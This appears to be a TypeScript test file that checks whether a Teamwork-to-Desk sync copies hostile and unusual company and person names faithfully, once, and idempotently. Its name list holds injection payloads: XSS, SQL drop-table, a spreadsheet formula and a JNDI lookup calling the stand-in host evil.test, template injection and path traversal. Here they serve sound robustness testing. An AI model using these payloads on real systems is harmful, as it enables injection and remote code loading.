import { verifySite } from '../../src/verify';
import { openLab, site, token, type Lab } from '../support/lab';
import { doubles, truthOf } from '../support/truth';

/** Texts that have broken other programs; each becomes the name of a company and of a person in it. */
const names = [
  'null',
  'NaN',
  '-1',
  '0',
  '<script>alert(1)</script>',
  `Robert'); drop table links;--`,
  '=HYPERLINK("https://evil.test";"x")',
  '@SUM(1+1)',
  'Tab\tand\r\nnew line',
  'Escape \u001b[31m red \u0007',
  'Null \u0000 inside',
  'Half a pair \ud83d',
  'Zero\u200bwidth\ufeff',
  'Right \u202eto left\u202c',
  'İstanbul Kılıç',
  'Straße & Söhne',
  'Cafe\u0301',
  'Zalgo h\u0308\u0301\u0300\u0302\u0303\u0304e',
  '👩‍👩‍👧‍👦 Family 👨🏽‍🚀',
  '株式会社 例え',
  'שלום עולם',
  'مرحبا بالعالم',
  '&amp; &lt;already escaped&gt;',
  '__proto__',
  'constructor',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../etc/passwd',
  'C:\\nul',
  ' padded ',
  'x'.repeat(10_000),
  '½ ① ﬁ Ａ',
];

const emails = [
  'plus+tag@hell.test',
  'UPPER@HELL.TEST',
  "o'brien@hell.test",
  'dots.in.it@hell.test',
  'under_score@sub.hell.test',
  'bücher@büro.test',
  `${'l'.repeat(60)}@hell.test`,
];

describe('names and emails from hell', () => {
  let lab: Lab;

  beforeAll(async () => {
    lab = await openLab({ sandbox: { companies: 3, people: 3, seed: 8, 'rate-limit': 60_000 } });
    for (const [index, name] of names.entries()) {
      const { company } = await lab.sandbox.asUser<{ company: { id: number } }>(
        'POST',
        '/projects/api/v3/companies.json',
        { company: { name, website: `https://hell-${index}.test/?q="<>` } },
      );
      await lab.sandbox.asUser('POST', '/people.json', {
        person: {
          'first-name': name,
          'last-name': name,
          'email-address': emails[index] ?? `person-${index}@hell.test`,
          'company-id': company.id,
          'user-type': 'contact',
        },
      });
    }
    await lab.startWorker();
    await lab.connect();
    await lab.runEnded(await lab.startRun());
  });
  afterAll(() => lab.close());

  test('R3, R13: every one is in Desk, as it was written, once', async () => {
    expect((await verifySite(lab.engine, site)).differences).toEqual([]);
    const { teamwork, desk } = await truthOf(lab.sandbox);
    // Postgres holds no NUL, so none is sent.
    const written = (name = '') => name.replaceAll('\0', '').trim();
    const inDesk = new Set(desk.company.map(({ name }) => written(name)));
    expect(teamwork.company.length).toBeGreaterThan(names.length);
    expect(teamwork.company.slice(-names.length).filter(({ name }) => !inDesk.has(written(name)))).toEqual(
      [],
    );
    expect(doubles(desk.company.map(({ name }) => name))).toEqual([]);
    expect(doubles(desk.customer.map(({ email }) => email))).toEqual([]);
  });

  test('R3, R13: the next run writes nothing', async () => {
    const last = (await lab.sandbox.calls()).at(-1)?.n ?? 0;
    await lab.runEnded(await lab.startRun());
    const writes = (await lab.sandbox.calls(last)).filter(
      (call) => call.token === token && call.method !== 'GET',
    );
    expect(writes).toEqual([]);
  });
});
